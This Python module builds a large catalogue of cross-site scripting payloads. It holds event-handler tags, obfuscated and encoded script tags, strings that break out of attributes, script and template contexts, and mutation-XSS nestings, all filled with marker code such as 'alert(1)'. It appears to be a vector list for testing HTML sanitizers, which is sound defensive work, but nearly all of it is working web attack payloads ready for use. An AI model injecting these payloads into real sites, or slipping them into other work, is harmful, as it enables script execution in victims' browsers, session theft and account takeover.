"""Ways by which a page may try to have a script of its own run, as text that a page can hold.

Every one of them, if it ever became markup, would set ``window.pwned`` or open a dialog. They are
made from parts: which tag, which event, which way out of the place where text is put, which
disguise. ``VECTORS`` are all of them, each once.
"""

from __future__ import annotations

RUN = "window.pwned=1"
CALL = "alert(1)"

LOADING = (
    "<img src=x onerror={}>",
    "<img src=x:x onerror='{}'>",
    '<img/src=x/onerror="{}">',
    "<img src=x oNeRrOr={}>",
    "<img src onerror\n=\n{}>",
    "<img src=x onerror\x0c={}>",
    "<image src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><image href=x onerror={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributename=x>",
    "<svg><a xlink:href=javascript:{}><text y=9>x</text></a>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'>"
    '<image href=x onerror={} /></svg>#x"></svg>',
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:text/javascript,{} />",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<math href=javascript:{}>x</math>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<body onhashchange={}><a href=#x>x</a>",
    "<iframe onload={}></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;top.{}&lt;/script&gt;></iframe>",
    "<iframe src='data:text/html,<script>parent.{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<object data='data:text/html,<script>parent.{}</script>'></object>",
    "<embed src=javascript:{}>",
    '<embed src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{}"/>\'>',
    "<video><source onerror={}></video>",
    "<video src=x onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<video poster=x onloadstart={} src=x></video>",
    "<link rel=stylesheet href=x onerror={}>",
    "<link rel=stylesheet href=data:text/css, onload={}>",
    "<style onload={}></style>",
    "<style>@import 'javascript:{}';</style>",
    "<input autofocus onfocus={}>",
    "<input type=image src=x onerror={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<button autofocus onfocus={}>x</button>",
    "<div contenteditable autofocus onfocus={}>x</div>",
    "<a tabindex=1 autofocus onfocus={}>x</a>",
    "<details open ontoggle={}>x</details>",
    "<marquee onstart={}>x</marquee>",
    "<marquee loop=1 width=0 onfinish={}>x</marquee>",
    "<xss style=animation-name:x onanimationstart={}><style>@keyframes x{{}}</style>",
    "<xss style=transition:1s ontransitionend={}>",
    "<p style='animation: x' onanimationend={}>",
    "<dialog open onclose={}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{}</script>'>",
    "<base href=javascript:{}//>",
    "<form><button formaction=javascript:{} autofocus>x</button></form>",
    "<form action=javascript:{}><input type=submit autofocus></form>",
    "<isindex action=javascript:{} type=submit>",
    "<portal src=javascript:{}>",
    "<fencedframe src=javascript:{}>",
    "<table background=javascript:{}>",
    "<bgsound src=javascript:{}>",
    "<applet code=javascript:{}>",
    "<frameset onload={}><frame src=javascript:{}></frameset>",
    "<keygen autofocus onfocus={}>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
)
"""Markup that would run by itself when it is shown; the payload goes into the braces."""

SCRIPTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script >{}</script >",
    "<script\t>{}</script>",
    "<script\n>{}</script>",
    "<script/x>{}</script>",
    "<script type=module>{}</script>",
    "<script type=text/javascript>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<script src=//elsewhere.example/x.js></script>",
    "<script>{}",
    "<script>{}//",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script>/*</script><script>*/{}</script>",
    "<!--><script>{}</script>",
    "<!-- --!><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "<!doctype html><script>{}</script>",
    "<script>{}</script\x00>",
    "<\x00script>{}</script>",
    "\ufeff<script>{}</script>",
    "\u202e<script>{}</script>",
    "<script\u2028>{}</script>",
    "<%00script>{}</script>",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "&#x3c;script&#x3e;{}&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "＜script＞{}＜/script＞",
    "¼script¾{}¼/script¾",
)
"""Script elements, and disguises that a careless decoder would take off."""

OUT_OF = (
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</xmp>",
    "</iframe>",
    "</option></select>",
    "</svg>",
    "-->",
    "]]>",
    "*/",
    '">',
    "'>",
    "`>",
    ">",
    '"/>',
    '\\">',
    "&quot;>",
    "&#34;>",
)
"""Ways out of the place where a text may have been put, before a script."""

ATTRIBUTES = (
    '" autofocus onfocus="{}" x="',
    "' autofocus onfocus='{}' x='",
    "` autofocus onfocus=`{}` x=`",
    " autofocus onfocus={} ",
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" onerror="{}" src="x',
    '" style="animation-name:x" onanimationstart="{}',
    '"onpointerenter="{}"',
    '" accesskey="x" onclick="{}',
    '"\nonfocus="{}"\nautofocus="',
    "x' onerror='{}' src='x",
)
"""Ways out of an attribute's value into another attribute."""

CODE = (
    "';{};//",
    '";{};//',
    "`;{};//",
    "${{{}}}",
    "'-{}-'",
    '"-{}-"',
    "\\';{};//",
    '\\";{};//',
    "</script><script>{}</script>",
    "');{};//",
    '"}});{};//',
    "\u2028{}//",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{ {} }}}}",
    "{{% if {} %}}x{{% endif %}}",
    "<%= {} %>",
    "#{{{}}}",
    "*{{{}}}",
    "[[${{{}}}]]",
    "javascript:{}",
    "javascript&colon;{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "javascript://%0A{}",
    "javascript:/*--></title></style></textarea></script><svg onload={}>",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=={}",
    "vbscript:{}",
    "view-source:javascript:{}",
    "blob:javascript:{}",
    "expression({})",
    "url(javascript:{})",
    '=HYPERLINK("javascript:{}","x")',
    "@import'javascript:{}'",
    "[x](javascript:{})",
    '![x](x"onerror="{})',
    "<javascript:{}>",
)
"""Ways out of a string of a script, of a template, of an address, of a style, of a table's cell."""

NESTED = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror={}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg><style><img src=x onerror={}></style></svg>",
    '<noembed><img title="</noembed><img src=x onerror={}>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror={}>">',
    "<select><iframe><script>{}</script>",
    '<table><tr><td><a id="</table><img src=x onerror={}>">',
    "<div id=__proto__><a id=window name=pwned href={}>",
    "<form id=document><input name=body onfocus={} autofocus></form>",
    "<plaintext><script>{}</script>",
    "<listing>&lt;img onerror={} src=x&gt;</listing>",
    "<b <script>{}</script>0",
    "<a href='x'<img src=x onerror={}>",
    "<p/onclick={} autofocus/onfocus={}>",
)
"""Markup that changes what it is when it is parsed twice, and names that stand in others' way."""

EVENTS = (
    "abort afterprint animationiteration auxclick beforecopy beforecut beforeinput beforematch "
    "beforepaste beforeprint beforetoggle beforeunload blur cancel canplay change click close "
    "contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart "
    "drop durationchange ended focusin focusout formdata fullscreenchange gotpointercapture input "
    "invalid keydown keypress keyup loadeddata loadedmetadata mousedown mouseenter mousemove "
    "mouseout mouseup mousewheel offline online pagehide paste pointerdown pointermove pointerover "
    "popstate progress reset resize scroll scrollend search securitypolicyviolation seeked select "
    "selectionchange selectstart slotchange submit suspend timeupdate touchstart "
    "unhandledrejection unload volumechange waiting webkitanimationstart wheel"
).split()


def _all() -> tuple[str, ...]:
    shapes = (
        *LOADING,
        *SCRIPTS,
        *(f"{way}<script>{{}}</script>" for way in OUT_OF),
        *(f"{way}<img src=x onerror={{}}>" for way in OUT_OF),
        *ATTRIBUTES,
        *CODE,
        *NESTED,
        *(f"<p tabindex=0 autofocus on{event}={{}}>x</p>" for event in EVENTS),
    )
    filled = [
        shape.format(*[RUN if number % 2 else CALL] * shape.count("{}")) if "{}" in shape else shape
        for number, shape in enumerate(shapes)
    ]
    return tuple(dict.fromkeys(filled))


VECTORS = _all()
